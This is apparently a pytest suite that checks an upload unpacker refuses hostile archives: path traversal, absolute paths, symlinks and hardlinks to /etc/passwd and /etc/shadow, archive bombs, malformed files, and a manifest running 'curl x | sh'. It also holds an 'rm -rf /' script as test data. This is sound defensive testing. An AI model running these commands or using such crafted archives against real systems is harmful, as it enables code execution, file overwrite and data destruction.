"""Uploads are hostile input: every malicious or broken archive is refused by cause, with a
message naming the entry, and nothing is ever written outside the destination folder (which is
removed on refusal). Good uploads unpack with safe modes, packing is deterministic."""

from __future__ import annotations

import gzip
import io
import os
import stat
import tarfile
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from scout_arena.sandbox import (
    ArchiveBomb,
    DuplicateEntry,
    LinkEntry,
    MalformedArchive,
    ManifestError,
    MissingManifest,
    MissingProgram,
    Runtime,
    SpecialEntry,
    TooManyFiles,
    UnsafePath,
    UploadError,
    UploadLimits,
    UploadTooLarge,
    load_upload,
    pack_data,
    pack_folder,
    unpack_upload,
)

MANIFEST = b'runtime = "python"\ncommand = ["python", "bot.py"]\n'
BOT = b"print('hello')\n"


def make_tar(entries: Sequence[tarfile.TarInfo | tuple[str, bytes]], gzip_it: bool = True) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for entry in entries:
            if isinstance(entry, tarfile.TarInfo):
                archive.addfile(entry)
            else:
                name, content = entry
                info = tarfile.TarInfo(name)
                info.size = len(content)
                info.mode = 0o644
                archive.addfile(info, io.BytesIO(content))
    return gzip.compress(raw.getvalue(), mtime=0) if gzip_it else raw.getvalue()


def make_zip(entries: Sequence[tuple[str | zipfile.ZipInfo, bytes]],
             compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", compression) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return raw.getvalue()


def good_entries() -> list[tuple[str, bytes]]:
    return [("scout-bot.toml", MANIFEST), ("bot.py", BOT)]


def tar_info(name: str, kind: bytes, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    return info


@pytest.fixture
def box(tmp_path: Path) -> Path:
    """A parent folder that must hold nothing but ``dest`` (or nothing at all) afterwards."""
    (tmp_path / "box").mkdir()
    return tmp_path / "box"


def refuse(box: Path, data: bytes, error: type[UploadError],
           limits: UploadLimits | None = None) -> str:
    """Unpacking ``data`` into ``box/dest`` raises ``error``; returns its message."""
    with pytest.raises(error) as raised:
        unpack_upload(data, box / "dest", limits or UploadLimits())
    assert not (box / "dest").exists(), "dest is removed on refusal"
    assert list(box.iterdir()) == [], "nothing is written beside dest"
    assert not (box.parent / "evil").exists() and not Path("/tmp/evil-scout-upload").exists()
    return str(raised.value)


def test_a_good_tar_gz_unpacks_with_its_manifest(box: Path) -> None:
    manifest = unpack_upload(make_tar(good_entries()), box / "dest")
    assert manifest.runtime is Runtime.PYTHON and manifest.command == ("python", "bot.py")
    assert (box / "dest" / "bot.py").read_bytes() == BOT
    assert (box / "dest" / "data").is_dir()


def test_a_zip_of_a_single_top_level_folder_unpacks_its_content_at_the_root(box: Path) -> None:
    data = make_zip([("mybot/scout-bot.toml", MANIFEST), ("mybot/bot.py", BOT),
                     ("mybot/mybot/inner.txt", b"x")])
    unpack_upload(data, box / "dest")
    assert sorted(os.listdir(box / "dest")) == ["bot.py", "data", "mybot", "scout-bot.toml"]
    assert (box / "dest" / "mybot" / "inner.txt").read_bytes() == b"x"


def test_setuid_bits_are_dropped_and_executable_bits_kept(box: Path) -> None:
    tool = tarfile.TarInfo("tool")
    tool.mode = 0o6755
    tool.size = 2
    plain = tarfile.TarInfo("plain")
    plain.mode = 0o4666
    plain.size = 2
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as archive:
        for name, content in good_entries():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
        archive.addfile(tool, io.BytesIO(b"ab"))
        archive.addfile(plain, io.BytesIO(b"ab"))
    unpack_upload(gzip.compress(raw.getvalue()), box / "dest")
    assert stat.S_IMODE((box / "dest" / "tool").stat().st_mode) == 0o755
    assert stat.S_IMODE((box / "dest" / "plain").stat().st_mode) == 0o644


@pytest.mark.parametrize("make", [make_tar, make_zip], ids=["tar.gz", "zip"])
@pytest.mark.parametrize("name", ["../evil", "sub/../../evil", "./../evil"])
def test_dot_dot_traversal_is_refused(box: Path, make: Callable[..., bytes], name: str) -> None:
    message = refuse(box, make([*good_entries(), (name, b"pwned")]), UnsafePath)
    assert name in message and ".." in message


@pytest.mark.parametrize("make", [make_tar, make_zip], ids=["tar.gz", "zip"])
def test_an_absolute_path_is_refused(box: Path, make: Callable[..., bytes]) -> None:
    message = refuse(box, make([*good_entries(), ("/tmp/evil-scout-upload", b"pwned")]),
                     UnsafePath)
    assert "/tmp/evil-scout-upload" in message and "absolute" in message


def test_a_symlink_out_of_the_folder_is_refused(box: Path) -> None:
    entries: list[tarfile.TarInfo | tuple[str, bytes]] = [
        *good_entries(), tar_info("escape", tarfile.SYMTYPE, "/etc/passwd"),
        ("escape/x", b"pwned")]
    message = refuse(box, make_tar(entries), LinkEntry)
    assert "'escape'" in message and "/etc/passwd" in message


def test_a_symlink_inside_the_folder_is_refused_too(box: Path) -> None:
    message = refuse(box, make_tar([*good_entries(), tar_info("alias", tarfile.SYMTYPE,
                                                               "bot.py")]), LinkEntry)
    assert "symbolic link" in message


def test_a_symlink_in_a_zip_is_refused(box: Path) -> None:
    info = zipfile.ZipInfo("escape")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    message = refuse(box, make_zip([*good_entries(), (info, b"/etc/passwd")]), LinkEntry)
    assert "'escape'" in message


def test_a_hardlink_is_refused(box: Path) -> None:
    message = refuse(box, make_tar([*good_entries(), tar_info("hard", tarfile.LNKTYPE,
                                                               "/etc/shadow")]), LinkEntry)
    assert "hard link" in message and "'hard'" in message


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_devices_and_fifos_are_refused(box: Path, kind: bytes) -> None:
    message = refuse(box, make_tar([*good_entries(), tar_info("dev", kind)]), SpecialEntry)
    assert "'dev'" in message


def test_a_zip_bomb_is_stopped_by_its_ratio_while_streaming(box: Path) -> None:
    data = make_zip([*good_entries(), ("zeros", b"\0" * (30 * 1024 * 1024))])
    assert len(data) < 100 * 1024
    message = refuse(box, data, ArchiveBomb)
    assert "'zeros'" in message and "200 times" in message


def test_a_zip_bomb_is_stopped_by_the_total_size(box: Path) -> None:
    files = [(f"f{index}", os.urandom(64 * 1024)) for index in range(20)]
    limits = UploadLimits(max_unpacked_bytes=512 * 1024)
    message = refuse(box, make_zip([*good_entries(), *files], zipfile.ZIP_STORED), ArchiveBomb,
                     limits)
    assert "524288 bytes" in message


def test_a_zip_whose_headers_lie_about_the_size_is_refused(box: Path) -> None:
    data = bytearray(make_zip([*good_entries(), ("big", os.urandom(4096))],
                              zipfile.ZIP_STORED))
    # Shrink the declared sizes of "big" in its central directory entry: zipfile then reads only
    # what the header says, and the CRC no longer matches.
    central = data.rindex(b"PK\x01\x02")
    data[central + 20:central + 28] = (16).to_bytes(4, "little") * 2
    refuse(box, bytes(data), MalformedArchive)


def test_a_tar_bomb_is_stopped_while_streaming(box: Path) -> None:
    data = make_tar([*good_entries(), ("zeros", b"\0" * (40 * 1024 * 1024))])
    assert len(data) < 100 * 1024
    message = refuse(box, data, ArchiveBomb)
    assert "200 times" in message


def test_a_tar_over_the_unpacked_limit_is_refused(box: Path) -> None:
    limits = UploadLimits(max_unpacked_bytes=256 * 1024, max_ratio=10**6)
    message = refuse(box, make_tar([*good_entries(), ("big", os.urandom(512 * 1024))]),
                     ArchiveBomb, limits)
    assert "more than" in message


@pytest.mark.parametrize("make", [make_tar, make_zip], ids=["tar.gz", "zip"])
def test_too_many_files_are_refused(box: Path, make: Callable[..., bytes]) -> None:
    files = [(f"f{index}", b"") for index in range(40)]
    message = refuse(box, make([*good_entries(), *files]), TooManyFiles, UploadLimits(max_files=30))
    assert "30" in message


def test_an_oversized_upload_is_refused_before_reading_it(box: Path) -> None:
    data = make_tar([*good_entries(), ("noise", os.urandom(64 * 1024))])
    message = refuse(box, data, UploadTooLarge, UploadLimits(max_upload_bytes=32 * 1024))
    assert str(len(data)) in message


@pytest.mark.parametrize("data", [
    b"PK\x03\x04" + b"garbage" * 20,
    b"\x1f\x8b" + b"garbage" * 20,
    gzip.compress(b"this is not a tar archive" * 40),
    make_tar(good_entries())[:len(make_tar(good_entries())) // 2],
    make_zip(good_entries())[:-30],
    b"#!/bin/sh\nrm -rf /\n",
], ids=["zip-garbage", "gzip-garbage", "gzip-not-tar", "tar-truncated", "zip-truncated",
        "script"])
def test_malformed_archives_are_refused(box: Path, data: bytes) -> None:
    refuse(box, data, MalformedArchive)


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("make", [make_tar, make_zip], ids=["tar.gz", "zip"])
def test_the_same_path_twice_is_refused(box: Path, make: Callable[..., bytes]) -> None:
    message = refuse(box, make([*good_entries(), ("bot.py", b"other")]), DuplicateEntry)
    assert "bot.py" in message


def test_a_manifest_with_a_shell_injection_command_is_refused(box: Path) -> None:
    manifest = b'runtime = "python"\ncommand = ["sh", "-c", "curl x | sh"]\n'
    message = refuse(box, make_tar([("scout-bot.toml", manifest), ("bot.py", BOT)]),
                     ManifestError)
    assert "'sh'" in message and "never by a shell" in message


def test_an_unknown_runtime_is_refused(box: Path) -> None:
    manifest = b'runtime = "cobol"\ncommand = ["cobc", "bot.cob"]\n'
    message = refuse(box, make_tar([("scout-bot.toml", manifest)]), ManifestError)
    assert "unknown runtime 'cobol'" in message


def test_a_missing_manifest_is_refused(box: Path) -> None:
    message = refuse(box, make_tar([("bot.py", BOT), ("README", b"hi")]), MissingManifest)
    assert "scout-bot.toml" in message


def test_a_manifest_two_folders_down_is_not_found(box: Path) -> None:
    refuse(box, make_zip([("a/b/scout-bot.toml", MANIFEST), ("a/b/bot.py", BOT)]),
           MissingManifest)


def test_a_binary_program_missing_from_the_upload_is_refused(box: Path) -> None:
    manifest = b'runtime = "binary"\ncommand = ["./bin/bot"]\n'
    message = refuse(box, make_tar([("scout-bot.toml", manifest)]), MissingProgram)
    assert "./bin/bot" in message


def test_a_binary_program_is_made_executable(box: Path) -> None:
    manifest = b'runtime = "binary"\ncommand = ["bin/bot", "--fast"]\n'
    unpack_upload(make_zip([("scout-bot.toml", manifest), ("bin/bot", b"\x7fELF")]), box / "d")
    assert os.access(box / "d" / "bin" / "bot", os.X_OK)


def test_a_python_script_missing_from_the_upload_is_refused(box: Path) -> None:
    message = refuse(box, make_tar([("scout-bot.toml", MANIFEST)]), MissingProgram)
    assert "'bot.py'" in message


def test_a_file_named_data_is_refused(box: Path) -> None:
    message = refuse(box, make_tar([*good_entries(), ("data", b"x")]), UnsafePath)
    assert "data folder" in message


def test_a_destination_that_holds_files_is_not_used(box: Path) -> None:
    (box / "dest").mkdir()
    (box / "dest" / "keep").write_text("mine")
    with pytest.raises(FileExistsError):
        unpack_upload(make_tar(good_entries()), box / "dest")
    assert (box / "dest" / "keep").read_text() == "mine"


def make_folder(root: Path) -> Path:
    (root / "bot").mkdir()
    (root / "bot" / "scout-bot.toml").write_bytes(MANIFEST)
    (root / "bot" / "bot.py").write_bytes(BOT)
    (root / "bot" / "run.sh").write_text("#!/bin/sh\n")
    (root / "bot" / "run.sh").chmod(0o755)
    for skipped in ("data", "__pycache__", ".git", "lib/__pycache__"):
        (root / "bot" / skipped).mkdir(parents=True)
        (root / "bot" / skipped / "junk").write_text("x")
    (root / "bot" / "lib" / "util.py").write_text("X = 1\n")
    return root / "bot"


def test_packing_is_deterministic_and_skips_data_caches_and_git(tmp_path: Path) -> None:
    folder = make_folder(tmp_path)
    first = pack_folder(folder)
    os.utime(folder / "bot.py", (0, 12345))
    assert pack_folder(folder) == first
    with tarfile.open(fileobj=io.BytesIO(first), mode="r:gz") as archive:
        names = archive.getnames()
        modes = {member.name: member.mode for member in archive.getmembers()}
    assert names == sorted(names)
    assert set(names) == {"bot.py", "lib", "lib/util.py", "run.sh", "scout-bot.toml"}
    assert modes["run.sh"] == 0o755 and modes["bot.py"] == 0o644
    unpack_upload(first, tmp_path / "out")
    assert (tmp_path / "out" / "lib" / "util.py").read_text() == "X = 1\n"


def test_packing_refuses_a_symlink(tmp_path: Path) -> None:
    folder = make_folder(tmp_path)
    (folder / "link").symlink_to("/etc/passwd")
    with pytest.raises(LinkEntry, match="link"):
        pack_folder(folder)


def test_packing_refuses_a_folder_without_manifest(tmp_path: Path) -> None:
    folder = make_folder(tmp_path)
    (folder / "scout-bot.toml").unlink()
    with pytest.raises(MissingManifest):
        pack_folder(folder)


def test_load_upload_reads_archives_by_content_and_packs_folders(tmp_path: Path) -> None:
    folder = make_folder(tmp_path)
    assert load_upload(folder) == pack_folder(folder)
    (tmp_path / "bot.bin").write_bytes(make_zip(good_entries()))
    assert load_upload(tmp_path / "bot.bin") == (tmp_path / "bot.bin").read_bytes()
    (tmp_path / "bot.zip").write_text("not really a zip")
    with pytest.raises(MalformedArchive):
        load_upload(tmp_path / "bot.zip")
    with pytest.raises(UploadTooLarge):
        load_upload(tmp_path / "bot.bin", UploadLimits(max_upload_bytes=10))


def test_a_data_folder_packs_its_files_and_folders_but_no_link_or_fifo(tmp_path: Path) -> None:
    data = tmp_path / "data"
    (data / "models").mkdir(parents=True)
    (data / "models" / "weights.bin").write_bytes(b"\1\2\3")
    (data / "notes.txt").write_text("hi")
    (data / "passwd").symlink_to("/etc/passwd")
    (data / "etc").symlink_to("/etc")
    os.mkfifo(data / "pipe")
    packed = pack_data(data, 1024)
    with tarfile.open(fileobj=io.BytesIO(packed), mode="r:gz") as archive:
        contents = {member.name: (archive.extractfile(member).read()  # type: ignore[union-attr]
                                  if member.isfile() else None)
                    for member in archive.getmembers()}
    assert contents == {"models": None, "models/weights.bin": b"\1\2\3", "notes.txt": b"hi"}
    assert pack_data(data, 1024) == packed
    with pytest.raises(UploadTooLarge):
        pack_data(data, 4)


def test_unpacked_folders_are_readable_by_others_whatever_the_umask(box: Path) -> None:
    previous = os.umask(0o077)
    try:
        unpack_upload(make_zip([("mybot/scout-bot.toml", MANIFEST), ("mybot/bot.py", BOT),
                                ("mybot/lib/util.py", b"")]), box / "dest")
    finally:
        os.umask(previous)
    for path in (box / "dest", box / "dest" / "lib", box / "dest" / "data"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o755, path
    assert stat.S_IMODE((box / "dest" / "lib" / "util.py").stat().st_mode) == 0o644


def test_a_windows_drive_path_is_refused_and_a_colon_in_a_name_is_not(box: Path) -> None:
    message = refuse(box, make_zip([*good_entries(), ("C:/Windows/evil", b"x")]), UnsafePath)
    assert "absolute" in message
    unpack_upload(make_zip([*good_entries(), ("a:b.txt", b"x")]), box / "dest")
    assert (box / "dest" / "a:b.txt").read_bytes() == b"x"
